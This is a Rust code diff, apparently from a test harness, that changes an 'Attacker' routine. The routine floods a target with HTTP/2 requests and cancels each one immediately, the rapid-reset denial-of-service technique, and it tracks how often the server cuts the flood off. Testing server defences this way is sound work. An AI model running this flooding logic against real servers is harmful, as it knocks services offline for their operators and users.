@@ -340,11 +340,7 @@ impl Attacker {
     async fn flood(self, delay: Duration) {
         tokio::time::sleep(delay).await;
         loop {
-            let before = self.deeds.resets.load(Ordering::Relaxed);
             let _ = self.flood_once().await;
-            if self.deeds.resets.load(Ordering::Relaxed) > before {
-                self.deeds.floods_cut_off.fetch_add(1, Ordering::Relaxed);
-            }
             tokio::time::sleep(BREATH).await;
         }
     }
@@ -354,13 +350,18 @@ impl Attacker {
         let stream = self.target.connect(&self.target.http2, self.from, None).await?;
         let (mut requests, connection) = h2::client::handshake(stream).await.map_err(io::Error::other)?;
         let _driver = AbortOnDropHandle::new(tokio::spawn(connection));
-        loop {
-            requests = requests.ready().await.map_err(io::Error::other)?;
+        for number in 0_u64.. {
+            let Ok(ready) = requests.ready().await else {
+                self.deeds.floods_cut_off.fetch_add(usize::from(number > 0), Ordering::Relaxed);
+                break;
+            };
+            requests = ready;
             let request = http::Request::get(format!("https://{HOST}/")).body(()).unwrap();
             let (_, mut stream) = requests.send_request(request, true).map_err(io::Error::other)?;
             stream.send_reset(h2::Reason::CANCEL);
             self.deeds.resets.fetch_add(1, Ordering::Relaxed);
             tokio::task::yield_now().await;
         }
+        Ok(())
     }
 }
